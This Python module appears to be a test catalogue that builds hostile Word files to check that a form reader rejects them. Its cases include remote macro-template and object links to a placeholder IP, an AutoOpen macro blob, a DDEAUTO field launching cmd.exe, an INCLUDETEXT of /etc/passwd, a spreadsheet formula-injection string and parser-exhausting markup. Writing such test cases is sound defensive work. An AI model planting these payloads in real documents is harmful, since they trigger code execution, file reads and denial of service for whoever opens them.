"""Word files: what they would fetch or run, and pages that cost."""

from __future__ import annotations

import test_docx_reader

from hostile.catalogue import ANY, SAID, Build, add, hostile, package, put

BODY, LINKS = "word/document.xml", "word/_rels/document.xml.rels"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORDS = SAID["helped_most"]

for name, build in test_docx_reader.ATTACKS.items():
    if name == "empty":  # an empty file is not even seen
        continue
    add(f"Word file: {name}", "docx", "To be no form, or a form that costs.", build, ANY)


def linked(kind: str, target: str, mode: str = 'TargetMode="External"') -> bytes:
    """The page with one more relationship."""
    link = f'<Relationship Id="rId99" Type="{RELATION}/{kind}" Target="{target}" {mode}/></Relationships>'
    return package("docx", {LINKS: put("</Relationships>", link)})


AWAY = {
    "a template": ("attachedTemplate", "http://203.0.113.9/evil.dotm"),
    "a picture": ("image", "http://203.0.113.9/x.png"),
    "an object": ("oleObject", "http://203.0.113.9/x.bin"),
    "a frame": ("frame", "file://203.0.113.9/share/x"),
    "a header": ("header", "http://203.0.113.9/header.xml"),
    "another document": ("aFChunk", "http://203.0.113.9/x.mht"),
}
for told, (kind, target) in AWAY.items():
    add(
        f"{told} of elsewhere in Word",
        "docx",
        "To have something fetched, or to be told who opened the file.",
        lambda kind=kind, target=target: linked(kind, target),
        "",
        "note",
    )


@hostile("docx")
def a_link_that_a_person_may_follow() -> bytes:
    """To be clicked on; formgen never does."""
    return linked("hyperlink", "http://203.0.113.9/")


@hostile("docx")
def a_remote_template_of_the_settings() -> bytes:
    """To have a template with macros fetched when the file opens."""
    return package(
        "docx",
        more={
            "word/_rels/settings.xml.rels": "<Relationships "
            'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
            f'Type="{RELATION}/attachedTemplate" Target="http://203.0.113.9/evil.dotm" TargetMode="External"/>'
            "</Relationships>",
        },
    )


@hostile("docm", "", "note")
def macros_in_a_page() -> bytes:
    """To have a program run when the file opens."""
    return package("docx", more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"AutoOpen" * 99})


def before(markup: str) -> Build:
    """Builds the page with markup before everything else."""
    return lambda: package("docx", {BODY: put("<w:body>", f"<w:body>{markup}")})


FIELD = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText></w:r></w:p>'
for told, text in {
    "a program": "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;",
    "a file": "INCLUDETEXT &quot;/etc/passwd&quot;",
    "a picture": "INCLUDEPICTURE &quot;http://203.0.113.9/x.png&quot;",
    "a database": "DATABASE \\\\d &quot;x&quot;",
}.items():
    add(f"a field of Word that calls {told}", "docx", "To have a field run.", before(FIELD.format(text)))

add(
    "another document put into a page",
    "docx",
    "To hide a web page in a form.",
    before('<w:altChunk xmlns:r="x" r:id="rId9"/>'),
    "",
    "note",
)
add(
    "things put into a page that run",
    "docx",
    "To have a program started by a click.",
    lambda: package(
        "docx",
        more={
            "word/embeddings/oleObject1.bin": b"MZ" * 99,
            "word/activeX/activeX1.xml": "<x/>",
            "customXml/item1.xml": "<x/>",
        },
    ),
)
add(
    "a header that is the page itself", "docx", "To go round in a circle.", lambda: linked("header", "document.xml", "")
)
add(
    "a page that is its own list of links",
    "docx",
    "To go round in another circle.",
    lambda: package("docx", {"_rels/.rels": put("word/document.xml", "_rels/.rels")}),
)
add(
    "a thousand headers",
    "docx",
    "To have the same page read a thousand times.",
    lambda: headers(1_000),
    "too-much-markup",
)


def headers(many: int) -> bytes:
    links = "".join(f'<Relationship Id="h{n}" Type="{RELATION}/header" Target="h{n}.xml"/>' for n in range(many))
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    parts = {
        f"word/h{n}.xml": f"<w:hdr {space}>{'<w:p><w:r><w:t>x</w:t></w:r></w:p>' * 90}</w:hdr>" for n in range(many)
    }
    return package("docx", {LINKS: put("</Relationships>", f"{links}</Relationships>")}, parts)


TABLE = "<w:tbl><w:tr>{}</w:tr></w:tbl>"
DEAR = {
    "codes without end": TABLE.format("<w:tc><w:t>Q01</w:t></w:tc>" * 38_000),
    "rows without end": TABLE.format(
        "<w:tc><w:t>Q11</w:t></w:tc><w:tc><w:t>Q11 x</w:t></w:tc></w:tr><w:tr>" + "<w:tc><w:t>a</w:t></w:tc>" * 38_000
    ),
    "ticks without end": "<w:p><w:r><w:t>" + "☐" * 6_000_000 + "</w:t></w:r></w:p>",
    "paragraphs without end": "<w:p/>" * 390_000,
    "controls without end": "<w:sdt><w:sdtPr><w:tag w:val='Q01'/></w:sdtPr><w:sdtContent/></w:sdt>" * 70_000,
    "references without end": "<w:p><w:r><w:t>" + "LM-PQ1-00000001-0 " * 300_000 + "</w:t></w:r></w:p>",
    "tables in tables": "<w:tbl><w:tr><w:tc>" * 19 + "</w:tc></w:tr></w:tbl>" * 19,
    "one endless word": "<w:p><w:r><w:t>" + "x" * 15_000_000 + "</w:t></w:r></w:p>",
}
DEAR_ENDS = {"codes without end": ("", "stray_text"), "rows without end": ("", "box_twice"), "tables in tables": ("",)}
for told, markup in DEAR.items():
    add(
        f"a page of {told}",
        "docx",
        "To cost as much as a page may.",
        before(markup),
        *DEAR_ENDS.get(told, ("too-much-markup|too-much-text",)),
    )


def said(text: str) -> Build:
    """Builds the page in which one answer is written otherwise."""
    return lambda: package("docx", {BODY: put(WORDS, text)})


for told, text in {
    "equals": "=cmd|' /C calc'!A0",
    "a template": "{{ x.__class__ }}",
}.items():
    add(
        f"an answer in Word that begins with {told}",
        "docx",
        "To run wherever the answer goes.",
        said(text),
        "",
        says={"helped_most": text},
    )
add(
    "an answer in Word that is endless",
    "docx",
    "To fill a cell that holds 32,767 letters.",
    said("x" * 100_000),
    "",
    "too_long",
)
